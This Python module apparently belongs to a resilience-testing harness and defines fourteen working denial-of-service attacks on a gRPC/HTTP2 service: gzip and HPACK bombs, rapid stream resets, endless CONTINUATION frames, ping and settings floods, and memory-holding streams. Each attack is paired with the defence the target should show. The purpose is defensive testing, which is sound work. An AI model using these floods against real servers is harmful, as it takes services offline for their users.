"""Attacks over RPC: compressed messages, streams that stay open, and frames of HTTP/2."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from collections.abc import Callable, Iterator

from ..wire import METHOD
from . import http2
from .attacker import Attack, Attacker, Line
from .target import Mode

CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
WITHOUT_KEY = (Mode.OPEN, Mode.STRANGER)
ANYBODY = (Mode.OPEN,)  # where keys change nothing: no call is read that could have one
STREAMS = 250
# Calls that wait for the event loop in gRPC keep what has come of them, also when their connection
# is closed: 2,048 of 64 KiB (SECURITY.md), of which the judge allows twice this.
QUEUE_MIB = 64


async def talk(
    attacker: Attacker, frames: Iterator[bytes], window: int = 2**31 - 1, wait_s: float = 1e9
) -> None:
    """Open HTTP/2, send the frames, and read for `wait_s` more seconds what comes."""
    line = await attacker.connect(rpc=True)
    reading = asyncio.create_task(_acknowledge(line))
    try:
        await line.send(http2.opening(window))
        for piece in frames:
            if reading.done() or attacker.over:
                break
            await line.send(piece)
            await asyncio.sleep(0)
        else:
            await asyncio.wait({reading}, timeout=min(wait_s, attacker.left_s))
    finally:
        reading.cancel()
        with contextlib.suppress(asyncio.CancelledError, OSError, EOFError):
            await reading
        line.close()


async def _acknowledge(line: Line) -> None:
    """Read frames; acknowledge settings, and answer pings, as the protocol demands."""
    while True:
        head = await line.reader.readexactly(9)
        size, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
        payload = await line.reader.readexactly(size)
        if kind in (http2.SETTINGS, http2.PING) and not flags & 1:
            line.writer.write(http2.frame(kind, 1, 0, payload if kind == http2.PING else b""))


def streams(make: Callable[[int], bytes], count: int) -> Iterator[bytes]:
    """Return what `make` makes for each of `count` streams of a client."""
    for number in range(count):
        yield make(2 * number + 1)


async def gzip_checks(attacker: Attacker) -> None:
    """Send health checks of 59 KB that unpack to 60 MB, 24 at once."""
    message = http2.packed_field(1, 60)
    block = http2.call_head(CHECK, coding="gzip")

    async def once() -> None:
        frames = [http2.call(1, block, message, compressed=True)]
        await asyncio.wait_for(talk(attacker, iter(frames)), 2)

    await attacker.repeat(once, 24)


async def large_checks(attacker: Attacker) -> None:
    """Send health checks of 60 KB each, plainly: the service's name is never so long."""
    block = http2.call_head(CHECK)
    message = http2.field(1, b"a" * 60_000)

    async def once() -> None:
        await talk(attacker, streams(lambda n: http2.call(n, block, message), STREAMS))

    await attacker.repeat(once, 4)


async def malformed(attacker: Attacker) -> None:
    """Send messages that are not protobuf to the methods that need no key."""
    heads = [http2.call_head(path, key=attacker.target.key) for path in (CHECK, WATCH, REFLECTION)]

    def make(stream: int) -> bytes:
        return http2.call(stream, heads[stream // 2 % 3], b"\xff" * 20)

    async def once() -> None:
        await talk(attacker, streams(make, STREAMS), wait_s=0.2)

    await attacker.repeat(once)


async def reflection_echo(attacker: Attacker) -> None:
    """Look for a symbol of 60 MB, in gzip: its name comes back in the error."""
    message = http2.packed_field(4, 60)
    block = http2.call_head(REFLECTION, key=attacker.target.key, coding="gzip")

    async def once() -> None:
        frames = [http2.call(1, block, message, compressed=True)]
        await asyncio.wait_for(talk(attacker, iter(frames)), 2)

    await attacker.repeat(once, 8)


async def reflection_storm(attacker: Attacker) -> None:
    """Request all services again and again on streams that stay open."""
    question = http2.field(7, b"*")
    body = struct.pack(">BI", 0, len(question)) + question
    block = http2.call_head(REFLECTION, key=attacker.target.key)

    def frames() -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)
        while True:
            yield http2.frame(http2.DATA, 0, 1, body * 200)

    async def once() -> None:
        await talk(attacker, frames())

    await attacker.repeat(once, 2)


async def watches(attacker: Attacker) -> None:
    """Keep 5,000 streams of Watch open on 20 connections."""
    block = http2.call_head(WATCH, key=attacker.target.key)

    async def once() -> None:
        await talk(attacker, streams(lambda n: http2.call(n, block, b""), STREAMS))

    await attacker.repeat(once, 20)


async def resets(attacker: Attacker) -> None:
    """Begin calls and reset them at once."""
    block = http2.call_head(METHOD, key=attacker.target.key)
    cancel = struct.pack(">I", 8)

    def make(stream: int) -> bytes:
        start = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
        return start + http2.frame(http2.RST_STREAM, 0, stream, cancel)

    async def once() -> None:
        await talk(attacker, streams(make, 2**20))

    await attacker.repeat(once, 4)


async def pings(attacker: Attacker) -> None:
    """Send nothing but pings."""
    await _flood_frames(attacker, http2.frame(http2.PING, 0, 0, bytes(8)) * 500)


async def settings(attacker: Attacker) -> None:
    """Send nothing but settings."""
    await _flood_frames(attacker, http2.frame(http2.SETTINGS, 0, 0, bytes(0)) * 500)


async def _flood_frames(attacker: Attacker, content: bytes) -> None:
    def frames() -> Iterator[bytes]:
        while True:
            yield content

    async def once() -> None:
        await talk(attacker, frames())

    await attacker.repeat(once, 4)


async def hpack_bomb(attacker: Attacker) -> None:
    """Name one large header thousands of times by its index: a byte becomes 4 KB."""
    first = http2.call_head(CHECK, http2.literal("x-a", b"a" * 3900, indexed=True))
    again = http2.call_head(CHECK) + b"\xbe" * 8000

    def make(stream: int) -> bytes:
        block = first if stream == 1 else again
        return http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)

    async def once() -> None:
        await talk(attacker, streams(make, STREAMS))

    await attacker.repeat(once, 4)


async def continuations(attacker: Attacker) -> None:
    """Send a head that never ends."""

    def frames() -> Iterator[bytes]:
        yield http2.frame(http2.HEADERS, 0, 1, http2.call_head(CHECK))
        number = 0
        while True:
            number += 1
            block = http2.literal(f"x-{number}", b"a" * 8000)
            yield http2.frame(http2.CONTINUATION, 0, 1, block)

    async def once() -> None:
        await talk(attacker, frames())

    await attacker.repeat(once, 4)


async def metadata(attacker: Attacker) -> None:
    """Send calls with 7 KB of metadata."""
    more = [http2.literal(f"x-{number}", b"a" * 100) for number in range(60)]
    block = http2.call_head(METHOD, *more, key=attacker.target.key)

    async def once() -> None:
        await talk(attacker, streams(lambda n: http2.call(n, block, b""), STREAMS))

    await attacker.repeat(once, 4)


async def unfinished(attacker: Attacker) -> None:
    """Begin a message on every stream of a few connections, and never end it."""
    block = http2.call_head(METHOD, key=attacker.target.key)
    start = struct.pack(">BI", 0, 2**20) + bytes(16_000 - 5)

    def make(stream: int) -> bytes:
        head = http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block)
        return head + http2.frame(http2.DATA, 0, stream, start)

    async def once() -> None:
        await talk(attacker, streams(make, STREAMS))

    await attacker.repeat(once, 4)


async def unread(attacker: Attacker) -> None:
    """Call with a window of nothing: no reply can leave."""
    block = http2.call_head(CHECK)

    async def once() -> None:
        await talk(attacker, streams(lambda n: http2.call(n, block, b""), STREAMS), window=0)

    await attacker.repeat(once, 4)


ATTACKS = (
    Attack("gzip'ed health checks", 7, "RPC", "no compression beyond what pays", gzip_checks,
           WITHOUT_KEY),
    Attack("large health checks", 7, "RPC", "they have a small limit", large_checks,
           ANYBODY, holds_mib=QUEUE_MIB, like="messages"),
    Attack("malformed messages", 7, "RPC", "no stack trace", malformed, WITHOUT_KEY),
    Attack("reflection's echo", 7, "RPC", "small messages, a key where keys are",
           reflection_echo),
    Attack("reflection storm", 7, "RPC", "the loop goes on", reflection_storm, like="messages"),
    Attack("Watch streams", 7, "RPC", "few a connection, by event", watches, WITHOUT_KEY),
    Attack("HTTP/2 resets", 7, "RPC", "the loop goes on", resets, like="messages"),
    Attack("HTTP/2 pings", 7, "RPC", "the connection ends", pings, ANYBODY),
    Attack("HTTP/2 settings", 7, "RPC", "memory is bounded", settings, ANYBODY),
    Attack("HPACK bomb", 7, "RPC", "heads are bounded as they unpack", hpack_bomb, ANYBODY),
    Attack("endless head", 7, "RPC", "heads are bounded", continuations, ANYBODY,
           like="bodies"),
    Attack("large metadata", 7, "RPC", "heads are bounded", metadata, like="messages"),
    Attack("unfinished messages", 7, "RPC", "memory is bounded", unfinished,
           holds_mib=QUEUE_MIB),
    Attack("unread replies", 7, "RPC", "memory is bounded", unread, ANYBODY,
           like="messages"),
)  # fmt: skip
